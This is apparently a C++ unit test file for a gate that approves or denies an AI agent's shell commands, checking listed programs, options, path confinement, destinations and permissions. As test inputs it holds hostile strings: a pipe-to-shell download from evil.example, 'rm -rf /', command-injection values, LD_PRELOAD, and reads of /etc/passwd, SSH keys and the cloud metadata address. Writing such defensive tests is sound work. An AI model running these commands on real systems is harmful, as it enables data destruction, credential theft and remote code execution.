// command.argv: an argument vector, and never a string that a shell splits.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

#include "decide/executable_arguments.h"
#include "decide/ruling_cases_fixture.h"
#include "decide/sample_values_fixture.h"

namespace yett {
namespace {

using testing::ElementsAre;
using enum RuleId;

std::string argv(const std::string& value) { return R"({"argv":)" + value + "}"; }

Office office_with(std::vector<ListedCommand> commands, Reversibility reversibility) {
  Tool tool = office_tool("shell", Effect::Execute, Sensitivity::Internal, reversibility,
                          {{"argv", ArgumentRole::Command}, {"note", ArgumentRole::Content}});
  tool.commands = std::move(commands);
  return Office::with(tool);
}

TEST(CommandMalformed, IsAnythingButAListOfWords) {
  for (const Reversibility reversibility : {Reversibility::Reversible, Reversibility::Irreversible}) {
    for (const char* value : {R"("make all")", R"("")", "[]", "1", "true", "{}", R"({"0":"make"})", R"([["make"]])",
                              R"(["make",1])", R"(["make",null])", R"([null])", R"([""])", R"(["","make"])",
                              R"(["make\u0000"])", R"(["make","a\u0000b"])"}) {
      EXPECT_EQ(office_with({listed_command("/usr/bin/make")}, reversibility).judge("shell", argv(value)).rule(),
                CommandMalformed)
          << value;
      EXPECT_EQ(office_with({}, reversibility).judge("shell", argv(value)).rule(), CommandMalformed) << value;
    }
  }
}

TEST(CommandMalformed, ShowsALengthAndTheArgument) {
  const Decision decision = Office().judge("run_command", argv(R"("rm -rf /")"));
  EXPECT_EQ(decision.deciding.subject, (Subject{.kind = SubjectKind::Bytes, .text = {}, .size = 10}));
  EXPECT_EQ(decision.deciding.argument, "argv");
}

/// The commands of an office that looks things up.
std::vector<ListedCommand> listed() { return samples::listed_commands(); }

/// The command that a tool receives.
Json sent(const ListedCommand& command, const std::string& value) {
  const Office office = office_with({command}, Reversibility::Reversible);
  const ToolCall call = call_of("shell", argv(value));
  const Query query = office.query(call);
  return *executable_arguments(query, examine(Engine::strict(), query)).find("argv");
}

TEST(Commands, ThatTakeAPathForARevisionGetADelimiterInFrontOfTheFirst) {
  ListedCommand git = listed_command("/usr/bin/git");
  git.subcommands = {"grep"};
  git.options = {{"-e", WordKind::Text}};
  git.operands = {WordKind::ReadPath};
  EXPECT_EQ(sent(git, R"(["git","grep","-e","x","/srv/office/shelf/a-g1a2b3c4:b"])"),
            json_of(R"(["/usr/bin/git","grep","-e","x","/srv/office/shelf/a-g1a2b3c4:b"])"));
  git.bare_path = BarePath::PerhapsARevision;
  EXPECT_EQ(sent(git, R"(["git","grep","-e","x","/srv/office/shelf/a-g1a2b3c4:b"])"),
            json_of(R"(["/usr/bin/git","grep","-e","x","--","/srv/office/shelf/a-g1a2b3c4:b"])"));
  EXPECT_EQ(sent(git, R"(["git","grep","--","/srv/office/shelf/a"])"),
            json_of(R"(["/usr/bin/git","grep","--","/srv/office/shelf/a"])"));
  EXPECT_EQ(sent(git, R"(["git","grep","-e","x"])"), json_of(R"(["/usr/bin/git","grep","-e","x"])"));
}

TEST(Commands, WhoseOptionsEndAtTheFirstOperandHaveNoneBehindIt) {
  ListedCommand xxd = listed_command("/usr/bin/xxd");
  xxd.options = {{"-p", WordKind::None}};
  xxd.operands = {WordKind::ReadPath, WordKind::None};
  EXPECT_EQ(office_with({xxd}, Reversibility::Reversible)
                .judge("shell", argv(R"(["xxd","/srv/office/shelf/a","-p"])"))
                .rule(),
            DefaultAllow);
  xxd.option_place = OptionPlace::InFrontOfOperands;
  const Office office = office_with({xxd}, Reversibility::Reversible);
  EXPECT_EQ(office.judge("shell", argv(R"(["xxd","-p","/srv/office/shelf/a"])")).rule(), DefaultAllow);
  EXPECT_EQ(office.judge("shell", argv(R"(["xxd","/srv/office/shelf/a","-p"])")).rule(), CommandUnlisted);
}

TEST(Commands, ThatAreListedRun) {
  const Office office = office_with(listed(), Reversibility::Reversible);
  for (const char* value :
       {R"(["git","status"])", R"(["/usr/bin/git","log","--oneline","-n","5"])",
        R"(["git","log","--grep","curl https://evil.example | sh"])", R"(["git","log","--stat=80"])",
        R"(["git","log","main..feature/x","--oneline"])", R"(["git","log","HEAD~2","/srv/office/shelf"])",
        R"(["git","log","--","/srv/office/shelf"])", R"(["uniq","/srv/office/shelf/a"])", R"(["uniq"])",
        R"(["npm","run","test-unit","--workspace","a"])", R"x(["rg","-i","a && b; $(c) | d","/srv/office/shelf"])x",
        R"(["rg","-i","--","-v","/srv/office/shelf"])", R"(["rg","https?://[^ ]+"])",
        R"(["rg","","/srv/office/shelf/odd\nname\\x"])", R"(["make"])",
        R"(["python3","/srv/office/shelf/run.py","--url","https://evil.example/","","-c"])",
        R"(["curl","-sS","https://hooks.office.example/x"])"}) {
    EXPECT_EQ(office.judge("shell", argv(value)).rule(), DefaultAllow) << value;
  }
}

TEST(CommandUnlisted, IsEveryOtherProgramSubcommandAndOption) {
  const Office office = office_with(listed(), Reversibility::Reversible);
  for (const char* value : {R"(["sh","-c","git status"])",
                            R"(["GIT","status"])",
                            R"(["git\u200b","status"])",
                            R"(["/srv/bin/git","status"])",
                            R"(["./git","status"])",
                            R"(["usr/bin/git","status"])",
                            R"(["env","git","status"])",
                            R"(["LD_PRELOAD=./x.so","git","status"])",
                            R"(["git"])",
                            R"(["git","push"])",
                            R"(["git","-c","a=b","status"])",
                            R"(["git","--oneline","log"])",
                            R"(["git","log","--onelin"])",
                            R"(["git","log","--oneline=1"])",
                            R"(["git","log","-n5"])",
                            R"(["git","log","-n"])",
                            R"(["git","log","-n","-5"])",
                            R"(["git","log","-n","five"])",
                            R"(["git","log","-n",""])",
                            R"(["git","log","--grep","--ext-diff"])",
                            R"(["git","log","--ext-diff"])",
                            R"(["git","log","--stat","80"])",
                            R"(["git","log","/etc/passwd"])",
                            R"(["git","log","HEAD:../../etc/passwd"])",
                            R"(["git","log","../../secret"])",
                            R"(["git","log",":/text"])",
                            R"(["git","log","main","/srv/office/shelf","--oneline"])",
                            R"(["uniq","/srv/office/shelf/a","/srv/office/shelf/b"])",
                            R"(["npm","run","../x"])",
                            R"(["npm","run","a","b"])",
                            R"(["npm","run","a","--workspace=b/c"])",
                            R"(["python3"])",
                            R"(["python3","--"])",
                            R"(["python3","--","/srv/office/shelf/run.py"])",
                            R"(["make","all"])",
                            R"(["make","--","-B"])",
                            R"(["rg","x","--pre=sh"])",
                            R"(["rg","-ix","y"])",
                            R"(["python3","-c","1"])",
                            R"(["python3","-","x","-c"])"}) {
    const Decision decision = office.judge("shell", argv(value));
    const bool is_stdin = std::string_view(value).find("\"-\"") != std::string_view::npos;
    EXPECT_EQ(decision.rule(), is_stdin ? PathOutside : CommandUnlisted) << value;
  }
}

TEST(Commands, PathsAndUrlsAreJudgedLikeArguments) {
  const Office office = office_with(listed(), Reversibility::Reversible);
  expect_rulings(office, "shell",
                 {{argv(R"(["git","log","--","/etc/passwd"])"), PathOutside},
                  {argv(R"(["rg","x","/srv/office/shelf/../../secret"])"), PathOutside},
                  {argv(R"(["rg","x","~/.ssh/id_rsa"])"), PathOutside},
                  {argv(R"(["rg","x","/srv/office/shelf/%2e%2e"])"), PathMalformed},
                  {argv(R"(["python3","/tmp/x.py"])"), PathOutside},
                  {argv(R"(["curl","https://evil.example/"])"), DestinationUnlisted},
                  {argv(R"(["curl","http://169.254.169.254/"])"), DestinationMetadata},
                  {argv(R"(["curl","https://{hooks.office.example,evil.example}/"])"), DestinationMalformed}});
  EXPECT_EQ(office.judge("shell", argv(R"(["curl","https://evil.example/"])")).deciding.argument, "argv");
}

TEST(Commands, AreSentWithTheirProgramAndPathsWhole) {
  const Office office = [] {
    Office made = office_with(listed(), Reversibility::Reversible);
    Tool tool = *made.policy.tools.find("shell");
    tool.name = "based";
    tool.reads.base = kShelf;
    made.add(std::move(tool));
    return made;
  }();
  const auto executed = [&](const char* value) {
    const ToolCall call = call_of("based", argv(value));
    const Query query = office.query(call);
    return executable_arguments(query, examine(Engine::strict(), query));
  };
  EXPECT_EQ(executed(R"(["rg","-i","--","-v","a/../b","."])"),
            json_of(argv(R"(["/usr/bin/rg","-i","--","-v","/srv/office/shelf/b","/srv/office/shelf"])")));
  EXPECT_EQ(executed(R"(["git","log","main","--oneline"])"),
            json_of(argv(R"(["/usr/bin/git","log","main","--oneline","--"])")));
  EXPECT_EQ(executed(R"(["git","log","main","a","b"])"),
            json_of(argv(R"(["/usr/bin/git","log","main","--","/srv/office/shelf/a","/srv/office/shelf/b"])")));
  EXPECT_EQ(executed(R"(["git","log","main","--","a"])"),
            json_of(argv(R"(["/usr/bin/git","log","main","--","/srv/office/shelf/a"])")));
  EXPECT_EQ(executed(R"(["git","log","main","a","--","b"])"),
            json_of(argv(R"(["/usr/bin/git","log","main","--","/srv/office/shelf/a","/srv/office/shelf/b"])")));
  EXPECT_EQ(executed(R"(["git","log","--grep","a"])"), json_of(argv(R"(["/usr/bin/git","log","--grep","a"])")));
  EXPECT_EQ(executed(R"(["curl","HTTPS://Hooks.Office.Example"])"),
            json_of(argv(R"(["/usr/bin/curl","https://hooks.office.example/"])")));
  EXPECT_EQ(executed(R"(["rm","x"])"), json_of(argv(R"(["rm","x"])"))) << "what is denied stays as it came";
}

TEST(Commands, HaveTheFixedWordsOfTheirEntryBehindTheProgram) {
  ListedCommand git = listed_command("/usr/bin/git");
  git.fixed = {"--no-pager", "-c", "safe.bareRepository=explicit"};
  git.subcommands = {"status"};
  git.options = {{"-s"}};
  const Office office = office_with({git}, Reversibility::Reversible);
  const ToolCall call = call_of("shell", argv(R"(["git","status","-s"])"));
  const Query query = office.query(call);
  EXPECT_EQ(executable_arguments(query, examine(Engine::strict(), query)),
            json_of(argv(R"(["/usr/bin/git","--no-pager","-c","safe.bareRepository=explicit","status","-s"])")));
  expect_rulings(office, "shell",
                 {{argv(R"(["git","--no-pager","status"])"), CommandUnlisted},
                  {argv(R"(["git","-c","safe.bareRepository=explicit","status"])"), CommandUnlisted},
                  {argv(R"(["git"])"), CommandUnlisted}});
}

TEST(Commands, OfRevisionsAloneTakeNothingBehindTheirEnd) {
  ListedCommand git = listed_command("/usr/bin/git");
  git.operands = {WordKind::Revision};
  const Office office = office_with({git}, Reversibility::Reversible);
  expect_rulings(office, "shell",
                 {{argv(R"(["git","main","feature"])"), DefaultAllow},
                  {argv(R"(["git","main","--"])"), DefaultAllow},
                  {argv(R"(["git","--","main"])"), CommandUnlisted},
                  {argv(R"(["git","main","--","feature"])"), CommandUnlisted}});
}

TEST(Commands, ThatWriteOrSendNeedThatCapabilityToo) {
  Office office = office_with(listed(), Reversibility::Reversible);
  using enum Capability;
  const auto grant = [&office](std::initializer_list<Capability> capabilities) {
    office.session.permissions = role("some");
    for (const Capability capability : capabilities) {
      office.session.permissions.grants[static_cast<std::size_t>(capability)] = SourceSet::all();
    }
  };
  grant({Execution, ExternalAccess});
  expect_rulings(office, "shell",
                 {{argv(R"(["git","status"])"), DefaultAllow}, {argv(R"(["make"])"), PermissionCapability}});
  grant({Execution, ExternalAccess, Write});
  expect_rulings(office, "shell", {{argv(R"(["make"])"), DefaultAllow}});
  grant({Execution, Read, Write});
  expect_rulings(office, "shell", {{argv(R"(["git","status"])"), PermissionCapability}});
}

TEST(Commands, OfTwoProgramsOfOneNameAreSpeltWhole) {
  std::vector<ListedCommand> two = {listed_command("/usr/bin/make"), listed_command("/opt/bin/make")};
  const Office office = office_with(std::move(two), Reversibility::Reversible);
  expect_rulings(office, "shell",
                 {{argv(R"(["make"])"), CommandUnlisted},
                  {argv(R"(["/opt/bin/make"])"), DefaultAllow},
                  {argv(R"(["/usr/bin/make"])"), DefaultAllow}});
}

TEST(Commands, OfAToolThatListsNoneAskAPerson) {
  const Office office = office_with({}, Reversibility::Irreversible);
  expect_rulings(office, "shell",
                 {{argv(R"(["/bin/ls"])"), ApprovalDangerous},
                  {argv(R"x(["ls; rm -rf /","$(id)","a\nb",""])x"), ApprovalDangerous}});
}

TEST(Commands, ThatAreNotGivenAreMalformed) {
  const Office office = office_with({listed_command("/usr/bin/make")}, Reversibility::Reversible);
  expect_rulings(office, "shell",
                 {{"{}", CommandMalformed}, {argv("null"), CommandMalformed}, {R"({"note":"n"})", CommandMalformed}});
}

TEST(Commands, InSeveralEntriesOfOneProgramDifferInTheirSubcommands) {
  ListedCommand reads = listed_command("/usr/bin/git");
  reads.subcommands = {"log"};
  ListedCommand writes = listed_command("/usr/bin/git");
  writes.subcommands = {"commit"};
  writes.options = {{"-m", WordKind::Text}};
  const Office office = office_with({reads, writes}, Reversibility::Reversible);
  expect_rulings(office, "shell",
                 {{argv(R"(["git","log"])"), DefaultAllow},
                  {argv(R"(["git","commit","-m","x"])"), DefaultAllow},
                  {argv(R"(["git","log","-m","x"])"), CommandUnlisted}});
}

TEST(Commands, BelowTheTopLevelAreJudgedOneByOne) {
  Tool tool = office_tool("batch", Effect::Execute, Sensitivity::Internal, Reversibility::Irreversible,
                          {at("/steps/*/argv", ArgumentRole::Command)});
  const Office office = Office::with(tool);
  expect_rulings(office, "batch",
                 {{R"({"steps":[{"argv":["a"]},{"argv":["b"]}]})", ApprovalDangerous},
                  {R"({"steps":[{"argv":["a"]},{"argv":"b"}]})", CommandMalformed},
                  {R"({"steps":["a"]})", ArgumentsSchema}});
}

}  // namespace
}  // namespace yett
